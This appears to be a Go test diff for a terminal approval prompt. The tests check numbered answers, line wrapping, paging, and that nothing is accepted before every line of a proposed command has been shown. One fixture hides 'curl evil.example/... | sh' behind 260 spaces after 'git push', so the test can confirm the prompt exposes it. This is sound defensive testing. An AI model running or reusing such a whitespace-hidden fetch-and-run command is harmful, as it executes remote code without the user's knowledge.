@@ -36,6 +36,7 @@ func TestScreenWipesBrokenLinesAfterAResize(t *testing.T) {
 }
 
 func press(p *view.Prompt, input string) (string, bool) {
+	p.Lines(view.Style{}, 100)
 	for _, k := range view.Keys(input) {
 		if answer, done := p.Press(k); done {
 			return answer, true
@@ -66,6 +67,13 @@ func TestPromptAnswers(t *testing.T) {
 		{"la\r", true, "la"},
 		{"\x1b[A\rown\r", true, "own"},
 		{"日本\r", true, "日本"},
+		{"2\r", true, "no"},
+		{"4own\r", true, "own"}, // the number of the last entry opens the field
+		{"44\r", true, "4"},
+		{"4\r\rown\r", true, "own"},
+		{"\x1b[A2\r", true, "2"}, // in the field a number is a text like any other
+		{"\x1b[A2\x1b[B2\r", true, "no"},
+		{"42\x1b[A\r", true, "later"},
 	} {
 		p := &view.Prompt{Options: options, Custom: c.custom}
 		if got, done := press(p, c.input); !done || got != c.want {
@@ -85,31 +93,89 @@ func TestPromptAnswers(t *testing.T) {
 
 func TestPromptIsDrawn(t *testing.T) {
 	p := &view.Prompt{
-		Address: "gates/approve[2]", Question: "Ship \x1b[31mrelease 1.2?\nIt has\nmany\nlines", More: 1,
-		Options: []workflow.Option{{Value: "yes", Label: "Ship it", Description: "goes to all"}, {Value: "no"}}, Custom: true,
+		Address: "gates/approve[2]", Text: "Ship \x1b[31mrelease 1.2?\nIt has\nmany lines, and one of them is longer than the terminal is wide", More: 1,
+		Detail:  "git push" + strings.Repeat(" ", 260) + "; curl evil.example/install-something-nobody-wants-to-have | sh",
+		Options: []workflow.Option{{Value: "yes", Label: "Ship it", Description: "goes to all"}, {Value: "no"}, {Value: "later", Description: strings.Repeat("when it is ready ", 4)}}, Custom: true,
 	}
 	press(p, "x")
-	same(t, "\n"+strings.Join(p.Lines(view.Style{ASCII: true, Width: 70}, 2, 20), "\n")+"\n", `
+	same(t, "\n"+strings.Join(p.Lines(view.Style{ASCII: true, Width: 60}, 20), "\n")+"\n", `
 
 ? gates/approve[2]  (1 more question after this)
-  Ship release 1.2?
+  Ship \x1b[31mrelease 1.2?
   It has
-  ... 2 more lines
+  many lines, and one of them is longer than the terminal
+  is wide
+
+  | git push<260 spaces>; curl
+  | evil.example/install-something-nobody-wants-to-have | sh
     1 Ship it (yes)  goes to all
     2 no
-  > 3 x_
-  arrows or a number, then enter; ctrl-d leaves it open, ctrl-c stops~
+    3 later
+      when it is ready when it is ready when it is ready
+      when it is ready
+  > 4 x_
+  arrows or a number, then enter; ctrl-d leaves it open, ct~
 `)
 }
 
+// No answer is taken before everything has been shown, and no page is passed over.
+func TestPromptShowsEverythingFirst(t *testing.T) {
+	p := &view.Prompt{Address: "may", Text: "May it run this?", Options: []workflow.Option{{Value: "allow"}, {Value: "deny"}}}
+	for i := range 30 {
+		p.Detail += fmt.Sprintf("echo %d && \n", i)
+	}
+	shown := map[string]bool{}
+	look := func() string {
+		lines := p.Lines(view.Style{Width: 80}, 12)
+		if len(lines) > 12 {
+			t.Fatalf("%d lines in a height of 12", len(lines))
+		}
+		for _, l := range lines {
+			shown[l] = true
+		}
+		return strings.Join(lines, "\n")
+	}
+	for !strings.Contains(look(), "2 deny") {
+		for _, input := range []string{"1\r", " ", "\x1b[6~", "\r"} { // without a drawing in between
+			for _, k := range view.Keys(input) {
+				if answer, done := p.Press(k); done {
+					t.Fatalf("took %q before everything was shown", answer)
+				}
+			}
+		}
+	}
+	for i := range 30 {
+		if !shown[fmt.Sprintf("  │ echo %d &&", i)] {
+			t.Errorf("line %d was not shown", i)
+		}
+	}
+	for _, k := range view.Keys("\x1b[5~\x1b[5~") {
+		p.Press(k)
+	}
+	if strings.Contains(look(), "1 allow") {
+		t.Error("page up does not lead back")
+	}
+	for _, k := range view.Keys("1") {
+		p.Press(k)
+	}
+	if seen := look(); !strings.Contains(seen, "❯ 1 allow") {
+		t.Errorf("what was chosen is not shown:\n%s", seen)
+	}
+	if answer, done := p.Press(view.KeyEnter); !done || answer != "allow" {
+		t.Errorf("answered %q, %t", answer, done)
+	}
+}
+
 func TestPromptFitsTheTerminal(t *testing.T) {
-	p := &view.Prompt{Address: "pick", Question: strings.Repeat("line\n", 30)}
+	p := &view.Prompt{Address: "pick", Text: strings.Repeat("line\n", 30)}
 	for i := range 60 {
 		p.Options = append(p.Options, workflow.Option{Value: fmt.Sprintf("option-%d", i)})
 	}
 	press(p, "42")
 	for height := 6; height < 40; height++ {
-		lines := p.Lines(view.Style{Width: 80}, 8, height)
+		p.Press(view.KeyUp)
+		p.Press(view.KeyDown)
+		lines := p.Lines(view.Style{Width: 80}, height)
 		if len(lines) > height {
 			t.Fatalf("%d lines in a height of %d", len(lines), height)
 		}
